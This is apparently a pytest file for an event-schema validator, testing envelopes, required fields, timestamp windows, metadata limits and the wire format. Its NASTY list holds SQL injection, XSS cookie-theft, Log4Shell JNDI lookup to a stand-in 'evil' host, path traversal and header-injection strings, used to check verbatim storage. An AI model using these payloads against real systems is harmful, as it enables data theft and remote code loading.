"""The event contract: envelope, kinds, required fields, extras, timestamps and the wire format."""

from __future__ import annotations

import copy
import os
import uuid

import orjson
import pytest

from lookout.contract import (
    ENVELOPE,
    KINDS,
    MAX_AGE_MS,
    MAX_FUTURE_MS,
    SCHEMAS,
    Event,
    FieldType,
    InvalidEvent,
    columns_for,
    field_spec,
    new_event_id,
    schema_for,
    validate_event,
)
from tests.unit.contract_samples import MINIMAL

NOW = 1_714_566_896_789  # 2024-05-01T12:34:56.789Z
TS = "2024-05-01T12:34:56.789Z"
DROP = object()


def raw(kind: str = "log", /, **overrides: object) -> dict[str, object]:
    event: dict[str, object] = {"kind": kind, "timestamp": TS, "service": "api", **MINIMAL[kind]}
    for name, value in overrides.items():
        if value is DROP:
            event.pop(name, None)
        else:
            event[name] = value
    return event


def ok(kind: str = "log", /, **overrides: object) -> Event:
    return validate_event(raw(kind, **overrides), NOW)


def bad(kind: str = "log", /, **overrides: object) -> str:
    with pytest.raises(InvalidEvent) as info:
        validate_event(raw(kind, **overrides), NOW)
    assert info.value.reason == str(info.value)
    return info.value.reason


# --- schema ----------------------------------------------------------------------------------------


def test_kinds_and_columns_are_the_published_lists() -> None:
    assert KINDS == ("log", "api_metric", "system_metric", "blockchain_event", "admin_audit", "security_event")
    assert set(SCHEMAS) == set(KINDS)
    # Each kind's field names are checked against the migrated tables (tests/integration/test_columns.py).
    for kind in KINDS:
        assert columns_for(kind) == [spec.name for spec in schema_for(kind)]
        assert len(set(columns_for(kind))) == len(columns_for(kind))
    assert [spec.name for spec in ENVELOPE] == ["kind", "timestamp", "service", "event_id", "instance"]


def test_unknown_kind_in_schema_lookups() -> None:
    with pytest.raises(ValueError, match="unknown kind 'nope'"):
        columns_for("nope")
    with pytest.raises(KeyError):
        field_spec("log", "nope")


def test_default_conventions_match_the_storage_columns() -> None:
    for kind in KINDS:
        for spec in schema_for(kind):
            if spec.required:
                continue
            if spec.type in (FieldType.STR, FieldType.ENUM, FieldType.IP):
                assert spec.default == "", spec
            elif spec.type is FieldType.BOOL:
                assert spec.default is False, spec
            elif spec.name == "metadata":
                assert spec.type is FieldType.JSON and spec.object_only and not spec.nullable
            elif spec.name == "processing_attempts":
                assert spec.default == 0
            else:
                assert spec.default is None and spec.nullable, spec


def test_field_spec_exposes_bounds() -> None:
    spec = field_spec("log", "status_code")
    assert (spec.type, spec.min_value, spec.max_value, spec.nullable) == (FieldType.INT, 100, 599, True)
    assert field_spec("log", "message").max_len == 64 * 1024
    assert field_spec("security_event", "severity").choices == ("low", "medium", "high", "critical")


# --- every kind -----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_minimal_event_of_every_kind_gets_all_columns_with_defaults(kind: str) -> None:
    event = ok(kind)
    assert event.kind == kind
    assert event.timestamp_ms == NOW
    assert (event.service, event.instance) == ("api", "")
    assert list(event.fields) == [c for c in columns_for(kind) if c != "metadata"] + ["metadata"]
    assert event.fields["metadata"] == {}
    for spec in schema_for(kind):
        if not spec.required and spec.name != "metadata":
            assert event.fields[spec.name] == spec.default


REQUIRED = [(kind, spec.name) for kind in KINDS for spec in schema_for(kind) if spec.required]


def test_required_fields_are_the_published_ones() -> None:
    assert REQUIRED == [
        ("log", "level"),
        ("log", "message"),
        ("api_metric", "endpoint"),
        ("api_metric", "method"),
        ("api_metric", "status_code"),
        ("api_metric", "response_time_ms"),
        ("system_metric", "metric_type"),
        ("system_metric", "metric_name"),
        ("system_metric", "value"),
        ("blockchain_event", "event_type"),
        ("admin_audit", "action"),
        ("security_event", "event_type"),
        ("security_event", "severity"),
    ]


@pytest.mark.parametrize(("kind", "name"), REQUIRED)
def test_required_field_missing_or_null(kind: str, name: str) -> None:
    assert bad(kind, **{name: DROP}) == f"{name}: required"
    assert bad(kind, **{name: None}) == f"{name}: required, got null"


@pytest.mark.parametrize("name", ["endpoint", "metric_type", "metric_name", "event_type", "action"])
def test_required_identifiers_must_not_be_empty(name: str) -> None:
    kind = next(k for k, n in REQUIRED if n == name)
    assert bad(kind, **{name: ""}).startswith(f"{name}: must be a non-empty string")


def test_empty_log_message_is_allowed() -> None:
    assert ok(message="").fields["message"] == ""


def test_full_events_of_every_kind() -> None:
    full = {
        "log": dict(
            level="ERROR",
            message="boom",
            category="API",
            event_type="http_request",
            user_id="u1",
            admin_id="a1",
            session_id="s1",
            request_id="r1",
            correlation_id="c" * 32,
            ip_address="203.0.113.9",
            user_agent="curl/8",
            endpoint="/x",
            method="post",
            status_code=500,
            response_time_ms=3,
            request_size_bytes=10,
            response_size_bytes=20,
            error_code="E1",
            error_message="bad",
            error_stack="at x",
            request_data={"a": 1},
            response_data=[1, 2],
        ),
        "api_metric": dict(
            request_size_bytes=1,
            response_size_bytes=2,
            cache_hit=True,
            user_id="u",
            error_type="timeout",
            database_query_time_ms=1.5,
            external_api_time_ms=0,
            concurrent_requests=7,
            memory_usage_mb=512.25,
            cpu_usage_percent=250.0,
        ),
        "system_metric": dict(unit="percent", threshold_warning=0.8, threshold_critical=0.95),
        "blockchain_event": dict(
            contract_address="0x" + "a" * 40,
            transaction_hash="0x" + "b" * 64,
            block_number=19_000_000,
            block_hash="0x" + "c" * 64,
            log_index=3,
            event_signature="0x" + "d" * 64,
            decoded_data={"from": "0x1", "value": "10"},
            raw_data="0xdeadbeef",
            processed=True,
            processing_attempts=2,
            last_processing_error="rpc timeout",
            processed_at="2024-05-01T12:00:00Z",
        ),
        "admin_audit": dict(
            admin_id="a1",
            resource_type="user",
            resource_id="42",
            old_values={"tier": 1},
            new_values={"tier": 2},
            ip_address="2001:db8::1",
            user_agent="ua",
            session_id="s",
            justification="KYC passed",
            approval_required=True,
            approved_by="a2",
            approved_at=1_714_560_000_000,
        ),
        "security_event": dict(
            user_id="u",
            ip_address="198.51.100.7",
            user_agent="ua",
            endpoint="/login",
            threat_indicators=["tor_exit_node", "credential_stuffing"],
            automatic_action_taken="blocked",
            investigated=True,
            investigated_by="a1",
            investigation_notes="confirmed",
            false_positive=False,
        ),
    }
    for kind, fields in full.items():
        event = ok(kind, **fields)
        for name, value in fields.items():
            assert event.fields[name] is not None
            if name not in ("level", "method", "response_time_ms", "processed_at"):
                assert event.fields[name] == value, (kind, name)
    log = ok("log", **full["log"])
    assert (log.fields["level"], log.fields["method"], log.fields["response_time_ms"]) == ("error", "POST", 3.0)
    assert ok("blockchain_event", **full["blockchain_event"]).fields["processed_at"] == 1_714_564_800_000


# --- envelope --------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [[], "log", 42, None, True])
def test_event_must_be_an_object(value: object) -> None:
    with pytest.raises(InvalidEvent, match="event must be a JSON object"):
        validate_event(value, NOW)


def test_kind() -> None:
    assert bad(kind=DROP) == "kind: required"
    assert bad(kind="foo").startswith("unknown kind 'foo'; expected one of log, api_metric")
    assert bad(kind=3).startswith("unknown kind 3")
    assert ok("log", kind="LOG").kind == "log"


def test_service() -> None:
    assert ok(service="svc-1.api:v2/eu_west").service == "svc-1.api:v2/eu_west"
    assert ok(service="a" * 128).service == "a" * 128
    assert bad(service=DROP) == "service: required"
    assert bad(service="") == "service: must be a non-empty string of at most 128 characters"
    assert bad(service="a" * 129) == "service: must be a non-empty string of at most 128 characters"
    assert bad(service="my service") == "service: must match [A-Za-z0-9_.:/-]+"
    assert bad(service="api\u00e9").startswith("service: must match")
    assert bad(service=7) == "service: must be a string"


def test_instance() -> None:
    assert ok(instance="web-3").instance == "web-3"
    assert ok(instance=None).instance == ""
    assert ok(instance="x" * 128).instance == "x" * 128
    assert bad(instance="x" * 129) == "instance: must be at most 128 characters"
    assert bad(instance=1) == "instance: must be a string"


def test_event_id_is_assigned_when_absent() -> None:
    first, second = ok(), ok(event_id=None)
    assert first.event_id != second.event_id
    for event_id in (first.event_id, second.event_id, new_event_id()):
        parsed = uuid.UUID(event_id)
        assert str(parsed) == event_id and parsed.version == 4 and parsed.variant == uuid.RFC_4122


def test_event_id_is_normalized_to_lowercase() -> None:
    assert ok(event_id="6F9619FF-8B86-D011-B42D-00C04FC964FF").event_id == "6f9619ff-8b86-d011-b42d-00c04fc964ff"
    v7 = "018f3a4e-7b2c-7def-8abc-0123456789ab"
    assert ok(event_id=v7).event_id == v7


@pytest.mark.parametrize(
    "value",
    [
        "not-a-uuid",
        "{6f9619ff-8b86-d011-b42d-00c04fc964ff}",
        "6f9619ff8b86d011b42d00c04fc964ff",
        "urn:uuid:6f9619ff-8b86-d011-b42d-00c04fc964ff",
        "6f9619ff-8b86-d011-b42d-00c04fc964fg",
        12345,
        "",
    ],
)
def test_event_id_rejects_other_spellings(value: object) -> None:
    assert bad(event_id=value).startswith("event_id: must be a UUID")


def test_nil_event_id_is_rejected() -> None:
    assert bad(event_id="00000000-0000-0000-0000-000000000000") == "event_id: must not be the nil UUID"


# --- timestamps -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2024-05-01T12:34:56.789Z", NOW),
        ("2024-05-01t12:34:56.789z", NOW),
        ("2024-05-01 12:34:56.789Z", NOW),
        ("2024-05-01T14:34:56.789+02:00", NOW),
        ("2024-05-01T07:04:56.789-05:30", NOW),
        ("2024-05-01T12:34:56.789999999Z", NOW),  # sub-millisecond digits are truncated
        ("2024-05-01T12:34:56Z", NOW - 789),
        ("2024-05-01T12:34:56.7Z", NOW - 89),
        (NOW, NOW),
        (NOW + 0.9, NOW),
        (float(NOW), NOW),
    ],
)
def test_timestamp_accepted(value: object, expected: int) -> None:
    assert ok(timestamp=value).timestamp_ms == expected


@pytest.mark.parametrize(
    "value",
    [
        "2024-05-01T12:34:56",
        "2024-05-01",
        "2024-05-01T12:34:56.789+0200",
        "20240501T123456Z",
        "2024-13-01T00:00:00Z",
        "2024-02-30T00:00:00Z",
        "2024-05-01T24:00:00Z",
        "2024-05-01T12:34:56.Z",
        "yesterday",
        str(NOW),
        " 2024-05-01T12:34:56Z",
        True,
        [NOW],
        {"ms": NOW},
        float("nan"),
        float("inf"),
    ],
)
def test_timestamp_rejected(value: object) -> None:
    assert bad(timestamp=value).startswith("timestamp: must be an RFC 3339 timestamp with a UTC offset")


def test_timestamp_missing() -> None:
    assert bad(timestamp=DROP) == "timestamp: required"
    assert bad(timestamp=None) == "timestamp: required"


def test_timestamp_window_is_exact() -> None:
    assert ok(timestamp=NOW + MAX_FUTURE_MS).timestamp_ms == NOW + MAX_FUTURE_MS
    assert ok(timestamp=NOW - MAX_AGE_MS).timestamp_ms == NOW - MAX_AGE_MS
    assert bad(timestamp=NOW + MAX_FUTURE_MS + 1) == "timestamp: more than 1 day in the future"
    assert bad(timestamp=NOW - MAX_AGE_MS - 1) == "timestamp: older than 365 days"
    assert bad(timestamp="2099-01-01T00:00:00Z") == "timestamp: more than 1 day in the future"
    assert bad(timestamp="2020-01-01T00:00:00Z") == "timestamp: older than 365 days"


def test_timestamp_unit_mistakes_get_a_hint() -> None:
    assert bad(timestamp=NOW // 1000) == "timestamp: older than 365 days (epoch seconds? send milliseconds)"
    assert bad(timestamp=NOW * 1000).endswith("(epoch microseconds or nanoseconds? send milliseconds)")
    assert bad(timestamp=NOW * 1_000_000).endswith("(epoch microseconds or nanoseconds? send milliseconds)")


def test_secondary_timestamps() -> None:
    assert ok("admin_audit", approved_at="2024-05-01T12:34:56.789Z").fields["approved_at"] == NOW
    assert ok("admin_audit", approved_at=None).fields["approved_at"] is None
    # Not tied to the receive-time window: a backfilled approval from years ago is fine.
    assert ok("admin_audit", approved_at="2019-01-01T00:00:00Z").fields["approved_at"] == 1_546_300_800_000
    assert bad("admin_audit", approved_at=-1) == "approved_at: must be between 1970-01-01 and 2100-01-01"
    assert bad("blockchain_event", processed_at="2100-01-01T00:00:00Z").startswith("processed_at: must be between")
    assert bad("blockchain_event", processed_at="soon").startswith("processed_at: must be an RFC 3339 timestamp")


# --- extras and metadata ------------------------------------------------------------------------------


def test_unknown_fields_move_into_metadata() -> None:
    event = ok(region="eu-west-1", retries=3, tags=["a", "b"], metadata={"build": "abc"})
    assert event.fields["metadata"] == {"build": "abc", "region": "eu-west-1", "retries": 3, "tags": ["a", "b"]}
    assert "region" not in event.fields


@pytest.mark.parametrize("kind", KINDS)
def test_extras_work_for_every_kind(kind: str) -> None:
    assert ok(kind, trace_flags=1).fields["metadata"] == {"trace_flags": 1}


def test_extras_do_not_overwrite_metadata_silently() -> None:
    assert bad(region="eu", metadata={"region": "us"}) == "region: given both as a top-level field and inside metadata"


def test_validation_does_not_modify_the_input() -> None:
    event = raw(region="eu", metadata={"build": "abc"}, level="WARN")
    before = copy.deepcopy(event)
    validated = validate_event(event, NOW)
    assert event == before
    assert validated.fields["metadata"] is not event["metadata"]


def test_metadata_must_be_an_object() -> None:
    assert ok(metadata=None).fields["metadata"] == {}
    assert bad(metadata=[1]) == "metadata: must be a JSON object"
    assert bad(metadata="{}") == "metadata: must be a JSON object"


def nest(levels: int) -> dict[str, object]:
    value: dict[str, object] = {"leaf": 1}
    for _ in range(levels - 1):
        value = {"a": value}
    return value


def test_metadata_depth_limit() -> None:
    assert ok(metadata=nest(16)).fields["metadata"] == nest(16)
    assert bad(metadata=nest(17)) == "metadata: must not be nested deeper than 16 levels"
    # An extra sits one level down, inside metadata.
    assert ok(extra=nest(15)).fields["metadata"] == {"extra": nest(15)}
    assert bad(extra=nest(16)) == "extra: must not be nested deeper than 16 levels"
    deep_list: list[object] = []
    for _ in range(20):
        deep_list = [deep_list]
    assert bad(request_data=deep_list) == "request_data: must not be nested deeper than 16 levels"


@pytest.mark.parametrize(
    ("metadata", "reason"),
    [
        ({"a": "x\x00y"}, "metadata: must not contain NUL characters"),
        ({"a\x00": 1}, "metadata: must not contain NUL characters"),
        ({1: "a"}, "metadata: object keys must be strings (got 1)"),
        ({"a": float("nan")}, "metadata: numbers must be finite"),
        ({"a": [float("inf")]}, "metadata: numbers must be finite"),
        ({"a": 2**64}, "metadata: integers must fit in 64 bits"),
        ({"a": -(2**63) - 1}, "metadata: integers must fit in 64 bits"),
        ({"a": (1, 2)}, "metadata: unsupported JSON value of type tuple"),
        ({"a": b"x"}, "metadata: unsupported JSON value of type bytes"),
    ],
)
def test_json_values_must_be_storable(metadata: dict, reason: str) -> None:
    assert bad(metadata=metadata) == reason


def test_json_values_at_the_edges() -> None:
    value = {"u64": 2**64 - 1, "i64": -(2**63), "f": 1.5, "b": False, "n": None, "s": "é", "l": [[], {}]}
    assert ok(metadata=value).fields["metadata"] == value


def test_json_fields_accept_objects_and_arrays_only() -> None:
    assert ok(request_data={"q": 1}).fields["request_data"] == {"q": 1}
    assert ok(response_data=[1, "a"]).fields["response_data"] == [1, "a"]
    assert ok(request_data=None).fields["request_data"] is None
    for value in ("body", 1, True):
        assert bad(request_data=value) == "request_data: must be a JSON object or array"


# --- injection strings pass through verbatim ---------------------------------------------------------

NASTY = [
    "'; DROP TABLE server_logs; --",
    '" OR 1=1 --',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}} ${jndi:ldap://evil/a} %s%s%n",
    "../../etc/passwd\r\nX-Injected: 1",
    "\u202eoverride \U0001f4a5 \ufeff",
]


@pytest.mark.parametrize("text", NASTY)
def test_injection_strings_are_stored_verbatim(text: str) -> None:
    event = ok(message=text, user_agent=text, endpoint=text[:255], note=text, metadata={text: text})
    assert event.fields["message"] == text
    assert event.fields["user_agent"] == text
    assert event.fields["endpoint"] == text[:255]
    assert event.fields["metadata"] == {text: text, "note": text}
    assert Event.from_json_dict(orjson.loads(orjson.dumps(event.to_json_dict()))) == event


def test_error_messages_do_not_echo_huge_values() -> None:
    reason = bad(level="x" * 100_000)
    assert reason.startswith("level: must be one of error, warn, info, debug, trace (got 'xxx")
    assert len(reason) < 200


# --- wire format ---------------------------------------------------------------------------------------


def test_wire_form_is_compact() -> None:
    event = ok(event_id="6f9619ff-8b86-d011-b42d-00c04fc964ff", instance="web-3", user_id="u1", status_code=200)
    assert event.to_json_dict() == {
        "kind": "log",
        "event_id": "6f9619ff-8b86-d011-b42d-00c04fc964ff",
        "ts": NOW,
        "service": "api",
        "instance": "web-3",
        "level": "info",
        "message": "hello",
        "user_id": "u1",
        "status_code": 200,
    }


def test_wire_form_keeps_values_that_only_look_like_defaults() -> None:
    event = ok("api_metric", response_time_ms=0, cache_hit=True)
    wire = event.to_json_dict()
    assert wire["response_time_ms"] == 0.0 and wire["cache_hit"] is True
    assert ok("blockchain_event", processing_attempts=0).to_json_dict().get("processing_attempts") is None
    assert ok("blockchain_event", processing_attempts=1).to_json_dict()["processing_attempts"] == 1


@pytest.mark.parametrize("kind", KINDS)
def test_wire_round_trip(kind: str) -> None:
    event = ok(kind, instance="i-1", extra_field={"k": [1, 2]})
    wire = orjson.loads(orjson.dumps(event.to_json_dict()))
    assert Event.from_json_dict(wire) == event


def test_from_json_dict_keeps_unknown_keys_in_metadata() -> None:
    wire = ok(metadata={"a": 1}).to_json_dict() | {"new_column": "x"}
    assert Event.from_json_dict(wire).fields["metadata"] == {"a": 1, "new_column": "x"}


@pytest.mark.parametrize(
    "wire",
    [
        {},
        {"kind": "nope", "event_id": "x", "ts": 1, "service": "s", "instance": ""},
        {"kind": "log", "ts": 1, "service": "s", "instance": ""},
        {"kind": "log", "event_id": "x", "ts": "1", "service": "s", "instance": ""},
        {"kind": ["log"], "event_id": "x", "ts": 1, "service": "s", "instance": ""},
    ],
)
def test_from_json_dict_rejects_broken_records(wire: dict) -> None:
    with pytest.raises(InvalidEvent, match="not a Lookout wire event"):
        Event.from_json_dict(wire)


def test_event_ids_stay_unique_across_threads_and_forks() -> None:
    # Ids come from blocks of random bytes: no two threads, and no parent and forked child, may share one.
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(8) as pool:
        drawn = [event_id for batch in pool.map(lambda _: [new_event_id() for _ in range(1000)], range(8))
                 for event_id in batch]
    assert len(set(drawn)) == len(drawn)
    new_event_id()  # the parent's block is now partly used, and the child inherits it
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(write, "\n".join(new_event_id() for _ in range(300)).encode())
        os._exit(0)
    os.close(write)
    os.waitpid(child, 0)
    with os.fdopen(read) as pipe:
        in_child = set(pipe.read().split("\n"))
    in_parent = {new_event_id() for _ in range(300)}
    assert len(in_child) == 300 and len(in_parent) == 300 and not in_child & in_parent
